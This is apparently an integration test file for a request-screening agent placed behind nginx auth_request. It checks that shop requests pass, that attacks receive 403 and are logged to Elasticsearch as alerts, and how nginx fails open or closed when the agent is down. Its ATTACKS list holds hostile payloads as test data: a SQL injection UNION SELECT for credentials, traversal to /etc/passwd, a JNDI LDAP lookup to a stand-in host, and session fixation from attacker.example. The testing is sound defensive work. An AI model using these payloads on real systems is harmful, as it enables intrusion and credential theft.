/**
 * A real nginx (the Debian package, fetched by scripts/nginx) in front of a small application, configured
 * with deploy/nginx/sidecar-auth-request.conf as users copy it (only its ports and log path changed), asking
 * a spawned agent run with config/examples/nginx-auth-request.yaml (only its addresses changed) through
 * auth_request. Attacks get 403 from nginx and never reach the application, shop requests get the
 * application's answer, the agent tails nginx's access log into real Elasticsearch with the verdicts, and
 * with the agent stopped nginx answers as the file's error_page choice says (open, closed, or nginx's 500).
 */
import { randomUUID } from 'node:crypto';
import { chmod, readFile, writeFile } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import type { Client } from '@elastic/elasticsearch';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { createSearchClient } from '../../agent/outputs/elasticsearch/search-client.js';
import { ensureNginx, type NginxInstall } from '../../scripts/nginx/install.js';
import { NginxServer } from '../../scripts/nginx/server.js';
import { shopBody, startShopApp, type ShopApp } from '../../scripts/nginx/shop-app.js';
import { readSidecarSite, renderSite, type SiteSettings } from '../../scripts/nginx/site-config.js';
import { resolveEndpoint } from '../../scripts/services/endpoints.js';
import { AgentProcess, freePort, tempDir, waitFor } from '../helpers/agent-process.js';

const AGENT_EXAMPLE = path.resolve(import.meta.dirname, '../../config/examples/nginx-auth-request.yaml');
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const SCANNER = 'sqlmap/1.7.2#stable (https://sqlmap.org)';

interface Probe {
  target: string;
  /** GET unless set. */
  method?: string;
  userAgent: string;
  /** A detector the agent must name for an attack. */
  detector?: string;
  /** Host and Referer headers when not the defaults (127.0.0.1:port, https://shop.example/). */
  host?: string;
  referer?: string;
}

const SHOP: Probe[] = [
  { target: '/', userAgent: BROWSER },
  { target: '/shop/cart?item=42&qty=2', userAgent: BROWSER },
  { target: '/products/1234/reviews?page=3&sort=newest', userAgent: BROWSER },
  { target: '/search?q=running+shoes+size+44', userAgent: BROWSER },
  { target: '/checkout/shipping?country=DE', userAgent: BROWSER },
  // A session id in the URL is fine from the site's own page: nginx passes $host as X-Original-Host.
  { target: '/account?jsessionid=A1B2C3', userAgent: BROWSER, host: 'shop.example', referer: 'https://shop.example/login' },
];
const ATTACKS: Probe[] = [
  { target: "/products?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--", userAgent: BROWSER, detector: 'sqli-union-select' },
  { target: '/download?file=../../../../etc/passwd', userAgent: BROWSER, detector: 'lfi-traversal' },
  { target: '/shop/offers', userAgent: SCANNER, detector: 'scanner-ua' },
  { target: '/search?q=%24%7Bjndi:ldap://203.0.113.9:1389/Exploit%7D', userAgent: BROWSER, detector: 'java-jndi-lookup' },
  // ...and session fixation from a link on another site.
  { target: '/account?jsessionid=PLANTED1', userAgent: BROWSER, host: 'shop.example', referer: 'https://attacker.example/offer', detector: 'session-id-param' },
  // ...and a method nobody registered for HTTP, which nginx passes on as X-Original-Method.
  { target: '/shop/cart', method: 'FOO', userAgent: BROWSER, detector: 'protocol-method-not-allowed' },
];

interface Answer {
  status: number;
  body: string;
}

/** GET through node:http, which sends the target as written (fetch would resolve `../` and re-encode it). */
function get(port: number, probe: Probe): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const headers = { 'user-agent': probe.userAgent, referer: probe.referer ?? 'https://shop.example/', ...(probe.host !== undefined ? { host: probe.host } : {}) };
    const request = http.request({ host: '127.0.0.1', port, method: probe.method ?? 'GET', path: probe.target, agent: false, headers }, (response) => {
      let body = '';
      response.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
    });
    request.on('error', reject);
    request.end();
  });
}

/** The agent's example config with this run's log, API port, Elasticsearch and data stream. */
async function agentConfig(dir: string, accessLog: string, apiPort: number, elasticsearch: string, dataset: string): Promise<string> {
  const config = parse(await readFile(AGENT_EXAMPLE, 'utf8')) as {
    state_dir: string;
    inputs: [{ include: string[] }];
    outputs: [{ nodes: string[]; data_stream: { dataset: string } }];
    api: { listen: string };
  };
  config.state_dir = path.join(dir, 'state');
  config.inputs[0].include = [accessLog];
  config.outputs[0].nodes = [elasticsearch];
  config.outputs[0].data_stream.dataset = dataset;
  config.api.listen = `127.0.0.1:${apiPort}`;
  const file = path.join(dir, 'sidecar.yaml');
  await writeFile(file, stringify(config));
  return file;
}

interface StoredAccess {
  event?: { kind?: string };
  threat?: { score?: number; reasons?: { detector: string }[] };
  rule?: { name?: string };
  source?: { ip?: string };
  url?: { original?: string; domain?: string };
  user_agent?: { original?: string };
  http?: { response?: { status_code?: number } };
}

describe('nginx auth_request in front of an application', () => {
  const endpoint = resolveEndpoint('elasticsearch');
  const dataset = `itnginx_${randomUUID().slice(0, 6)}`;
  const dataStream = `logs-${dataset}-default`;
  const servers: NginxServer[] = [];
  let install: NginxInstall;
  let search: Client;
  let app: ShopApp;
  let agent: AgentProcess | undefined;
  let dir: string;
  let template: string;
  let site: SiteSettings;

  async function startNginx(name: string, settings: SiteSettings): Promise<NginxServer> {
    const server = await NginxServer.start({ install, dir: path.join(dir, name), sites: [renderSite(template, settings)] });
    servers.push(server);
    return server;
  }

  beforeAll(async () => {
    install = await ensureNginx();
    console.log(`nginx ${install.version}${install.packageVersion ? ` (Debian package ${install.packageVersion})` : ''}`);
    search = createSearchClient({ engine: 'elasticsearch', node: endpoint.address, compatibleWith: 8, requestTimeoutMs: 30_000 });
    dir = await tempDir('nginx-auth-request');
    // Started as root, nginx runs its workers as nobody, who must be able to enter the run folders below.
    await chmod(dir, 0o755);
    template = await readSidecarSite();
    app = await startShopApp();
    const [port, agentPort] = [await freePort(), await freePort()];
    site = { port, appPort: app.port, agentPort, accessLog: path.join(dir, 'nginx', 'logs', 'access.log') };
    await startNginx('nginx', site);
    agent = AgentProcess.start(['run', '-c', await agentConfig(dir, site.accessLog, agentPort, endpoint.address, dataset)]);
    await agent.waitForLog('agent started', 30_000);
    await agent.waitForLog('following file');
  });

  afterAll(async () => {
    // Everything is stopped even when something before it fails; the first failure is reported.
    const results = await Promise.allSettled([
      ...servers.map((server) => server.stop()),
      agent?.stop(),
      app?.close(),
      search?.indices.deleteDataStream({ name: dataStream }).catch(() => undefined),
    ]);
    await search?.close();
    const failed = results.find((result) => result.status === 'rejected');
    if (failed) throw failed.reason;
  });

  it("passes shop requests on: 200 with the application's body, scored 0", async () => {
    for (const probe of SHOP) {
      const answer = await get(site.port, probe);
      expect(answer, probe.target).toEqual({ status: 200, body: shopBody('GET', probe.target) });
      expect(app.seen.at(-1)).toEqual({ method: 'GET', url: probe.target, threatScore: '0' });
    }
  });

  it('refuses attacks with 403 before they reach the application', async () => {
    const seenBefore = app.seen.length;
    for (const probe of ATTACKS) {
      const answer = await get(site.port, probe);
      expect(answer.status, probe.target).toBe(403);
      expect(answer.body).toContain('403 Forbidden');
    }
    expect(app.seen.slice(seenBefore)).toEqual([]);
  });

  it('tails the access log into Elasticsearch: an alert for each attack with status 403, none for the shop requests', async () => {
    const expected = SHOP.length + ATTACKS.length;
    let stored: StoredAccess[] = [];
    await waitFor(
      async () => {
        await search.indices.refresh({ index: dataStream }).catch(() => undefined);
        const found = await search.search<StoredAccess>({ index: dataStream, size: 100 }).catch(() => undefined);
        stored = found?.hits.hits.map((hit) => hit._source ?? {}) ?? [];
        return stored.length >= expected;
      },
      30_000,
      `${expected} access-log events in ${dataStream}`,
    );
    expect(stored).toHaveLength(expected);
    const find = (probe: Probe) => stored.find((doc) => doc.url?.original === probe.target && doc.user_agent?.original === probe.userAgent);

    for (const probe of ATTACKS) {
      const doc = find(probe);
      expect(doc, probe.target).toMatchObject({ event: { kind: 'alert' }, source: { ip: '127.0.0.1' }, url: { original: probe.target }, http: { response: { status_code: 403 } } });
      expect(doc?.threat?.score).toBeGreaterThanOrEqual(0.5);
      expect(doc?.threat?.reasons?.map((reason) => reason.detector)).toContain(probe.detector);
      expect(doc?.rule?.name).toEqual(expect.any(String));
      if (probe.host !== undefined) expect(doc?.url?.domain).toBe(probe.host);
    }
    for (const probe of SHOP) {
      const doc = find(probe);
      expect(doc, probe.target).toMatchObject({ source: { ip: '127.0.0.1' }, url: { original: probe.target }, http: { response: { status_code: 200 } } });
      expect(doc?.event?.kind).not.toBe('alert');
      expect(doc?.threat?.reasons ?? []).toEqual([]);
    }
    const alerts = await search.count({ index: dataStream, query: { term: { 'event.kind': 'alert' } } });
    expect(alerts.count).toBe(ATTACKS.length);
  });

  describe('with the agent stopped', () => {
    const shopping: Probe = { target: '/shop/cart?item=7', userAgent: BROWSER };

    beforeAll(async () => {
      const finished = await agent?.stop();
      agent = undefined;
      expect(finished?.code, finished?.stderr.slice(-2000)).toBe(0);
    });

    it('fails open as the file is written (error_page to return 204): requests reach the application, attacks too', async () => {
      expect(await get(site.port, shopping)).toEqual({ status: 200, body: shopBody('GET', shopping.target) });
      expect(app.seen.at(-1)).toEqual({ method: 'GET', url: shopping.target, threatScore: undefined });
      const attack = ATTACKS[0] as Probe;
      expect((await get(site.port, attack)).status).toBe(200);
      const nginx = servers[0] as NginxServer;
      expect(await nginx.errorLogTail()).toMatch(/connect\(\) failed \(111: Connection refused\) while connecting to upstream.*subrequest: "\/sidecar-check"/);
    });

    it('fails closed with return 403 in @sidecar_unreachable: 403, nothing reaches the application', async () => {
      const closed = { ...site, port: await freePort(), accessLog: path.join(dir, 'closed', 'logs', 'access.log'), unreachable: 'closed' as const };
      await startNginx('closed', closed);
      const seenBefore = app.seen.length;
      expect((await get(closed.port, shopping)).status).toBe(403);
      expect(app.seen.length).toBe(seenBefore);
    });

    it("answers nginx's own 500 without the error_page line", async () => {
      const plain = { ...site, port: await freePort(), accessLog: path.join(dir, 'plain', 'logs', 'access.log'), unreachable: 'nginx' as const };
      await startNginx('plain', plain);
      const seenBefore = app.seen.length;
      const answer = await get(plain.port, shopping);
      expect(answer.status).toBe(500);
      expect(answer.body).toContain('500 Internal Server Error');
      expect(app.seen.length).toBe(seenBefore);
    });
  });
});
